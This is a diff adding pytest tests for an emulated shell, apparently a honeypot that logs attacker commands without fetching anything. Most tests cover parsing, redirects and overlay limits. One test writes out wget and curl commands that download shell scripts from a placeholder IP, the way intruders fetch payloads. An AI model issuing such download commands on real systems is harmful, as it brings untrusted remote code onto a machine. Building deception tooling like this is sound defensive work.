@@ -0,0 +1,151 @@
+import os
+
+import pytest
+
+import shell
+from shell import Shell, Overlay, BaseFilesystem, get_base_filesystem
+
+FILESYSTEM = os.path.join(os.path.dirname(shell.__file__), 'templates', 'shell', 'filesystem.yml')
+
+@pytest.fixture
+def sh():
+    fs = Overlay(get_base_filesystem(FILESYSTEM), variables={'hostname': 'abc123', 'kernel': '5.4.0-65-generic', 'container_id': 'abc123'})
+    return Shell(fs, hostname='abc123')
+
+#parser
+
+def test_pipe(sh):
+    assert sh.run('echo hello world | wc -c') == '12\n'
+
+def test_pipe_chain(sh):
+    assert sh.run('printf "a\\nb\\nab\\n" | grep a | wc -l') == '2\n'
+
+def test_sequence_and_conditions(sh):
+    assert sh.run('false && echo no; echo yes || echo no; false || echo fallback') == 'yes\nfallback\n'
+
+def test_redirect_write_and_append(sh):
+    assert sh.run('echo one > /tmp/x; echo two >> /tmp/x') == ''
+    assert sh.run('cat /tmp/x') == 'one\ntwo\n'
+    assert sh.fs.changed
+
+def test_redirect_truncates(sh):
+    sh.run('echo one > /tmp/x; echo two > /tmp/x')
+    assert sh.fs.read('/tmp/x') == 'two\n'
+
+def test_redirect_stdin(sh):
+    sh.run('printf "a\\nb\\n" > /tmp/x')
+    assert sh.run('wc -l < /tmp/x') == '2\n'
+
+def test_redirect_dev_null(sh):
+    assert sh.run('cat /nonexistent 2>/dev/null') == ''
+    assert sh.status == 1
+    assert sh.run('echo hidden > /dev/null') == ''
+    assert sh.run('cat /nonexistent >/dev/null 2>&1; echo $?') == '1\n'
+    assert not sh.fs.isfile('/dev/null')
+
+def test_stderr_is_not_redirected_with_stdout(sh):
+    assert sh.run('cat /nope > /tmp/o') == 'cat: /nope: No such file or directory\n'
+    assert sh.fs.read('/tmp/o') == ''
+
+def test_stderr_redirects(sh):
+    sh.run('cat /nope 2> /tmp/e')
+    assert sh.fs.read('/tmp/e') == 'cat: /nope: No such file or directory\n'
+    sh.run('cat /nope /etc/hostname > /tmp/o 2>&1')
+    assert sh.fs.read('/tmp/o') == 'cat: /nope: No such file or directory\nabc123\n'
+    assert sh.run('echo oops >&2 2>/dev/null') == 'oops\n'
+    assert sh.run('(echo oops >&2) 2>/dev/null') == 'oops\n'
+
+def test_stderr_skips_the_pipe(sh):
+    assert sh.run('cat /nope | wc -l') == 'cat: /nope: No such file or directory\n0\n'
+    assert sh.run('cat /nope 2>&1 | wc -l') == '1\n'
+
+def test_echo_argument_before_redirect(sh):
+    sh.run('echo 2 > /tmp/n; echo "2>x" 2 >> /tmp/n')
+    assert sh.fs.read('/tmp/n') == '2\n2>x 2\n'
+
+def test_command_substitution(sh):
+    assert sh.run('echo $(whoami)') == 'root\n'
+    assert sh.run('echo `hostname`-$(id -u)') == 'abc123-0\n'
+
+def test_command_substitution_in_redirect_target(sh):
+    sh.run('echo x > /tmp/$(whoami)')
+    assert sh.fs.read('/tmp/root') == 'x\n'
+
+def test_variables(sh):
+    assert sh.run('A=1\necho $A ${A}2\nfalse\necho $?') == '1 12\n1\n'
+
+def test_variables_expanded_per_command(sh):
+    assert sh.run('A=1; echo $A') == '1\n'
+    assert sh.run('export B=2; echo $B && echo "$B" \'$B\'') == '2\n2 $B\n'
+    assert sh.run('false; echo $?; echo $?') == '1\n0\n'
+    assert sh.run('cd /tmp && echo $PWD') == '/tmp\n'
+
+def test_unterminated_quote(sh):
+    assert 'Syntax error' in sh.run('echo "open')
+    assert sh.status == 2
+
+def test_not_found(sh):
+    assert sh.run('nosuchcommand') == 'sh: 1: nosuchcommand: not found\n'
+    assert sh.status == 127
+
+#handlers
+
+def test_download_recorded_not_fetched(sh):
+    sh.run('cd /tmp && wget -q http://198.51.100.1/x.sh && curl -o y.sh 198.51.100.1/y.sh')
+    assert [(d['Tool'], d['Url'], d['Path']) for d in sh.downloads] == [
+        ('wget', 'http://198.51.100.1/x.sh', '/tmp/x.sh'),
+        ('curl', 'http://198.51.100.1/y.sh', '/tmp/y.sh')
+    ]
+    assert sh.fs.read('/tmp/x.sh') == ''
+
+def test_downloads_bounded(sh):
+    sh.run('; '.join('wget http://198.51.100.1/{}'.format(i) for i in range(shell.MAX_DOWNLOADS + 10)))
+    assert len(sh.downloads) == shell.MAX_DOWNLOADS
+
+def test_script_from_overlay(sh):
+    sh.run('echo "echo from script" > /tmp/a.sh; chmod +x /tmp/a.sh')
+    assert sh.run('sh /tmp/a.sh') == 'from script\n'
+    assert sh.run('/tmp/a.sh') == 'from script\n'
+
+def test_base64_roundtrip(sh):
+    assert sh.run('echo -n secret | base64 | base64 -d') == 'secret'
+
+def test_rm_base_file(sh):
+    sh.run('rm /etc/hostname')
+    assert not sh.fs.isfile('/etc/hostname')
+    assert {'Path': '/etc/hostname', 'Deleted': True} in sh.fs.entries()
+
+#overlay limits
+
+def test_overlay_entries_roundtrip(sh):
+    sh.run('mkdir /tmp/d; echo x > /tmp/d/f; rm /etc/hostname')
+    copy = Overlay(sh.fs.base, sh.fs.entries())
+    assert copy.read('/tmp/d/f') == 'x\n'
+    assert copy.isdir('/tmp/d')
+    assert copy.size == sh.fs.size
+
+def test_overlay_file_count_limit():
+    fs = Overlay(BaseFilesystem({}))
+    for i in range(shell.MAX_OVERLAY_FILES):
+        assert fs.write('/f{}'.format(i), 'x')
+    assert not fs.write('/extra', 'x')
+    assert not fs.mkdir('/extra')
+    assert fs.write('/f0', 'y')
+
+def test_overlay_size_limit(monkeypatch):
+    monkeypatch.setattr(shell, 'MAX_OVERLAY_SIZE', 1000)
+    fs = Overlay(BaseFilesystem({}))
+    assert fs.write('/a', 'x' * 900)
+    assert not fs.write('/b', 'x' * 200)
+    assert fs.read('/b') is None
+    fs.remove('/a')
+    assert fs.size == 0
+    assert fs.write('/b', 'x' * 200)
+
+def test_overlay_file_size_truncated():
+    fs = Overlay(BaseFilesystem({}))
+    fs.write('/a', 'x' * (shell.MAX_FILE_SIZE + 1))
+    assert len(fs.read('/a')) == shell.MAX_FILE_SIZE
+
+def test_overlay_bounded_under_bson_limit():
+    assert shell.MAX_OVERLAY_SIZE + shell.MAX_DOWNLOADS * (shell.MAX_URL + shell.MAX_PATH) * 2 < 16*1024*1024 // 2